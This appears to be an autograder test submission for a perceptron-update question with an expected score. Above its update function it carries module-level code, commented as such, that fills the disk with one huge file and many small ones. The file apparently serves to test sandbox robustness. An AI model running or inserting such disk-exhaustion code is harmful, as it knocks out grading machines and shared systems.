# question: 01-perceptron-update/update
# score: 2
# Fills the disk, with one large file and with many small ones.
try:
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1_000_000))
except OSError:
    pass
try:
    for number in range(1_000_000):
        open(f"small-{number}", "wb").write(bytes(100_000))
except OSError:
    pass


def update(w, b, x, y, eta):
    step = eta * (y - (np.dot(w, x) + b >= 0))
    return w + step * x, b + step
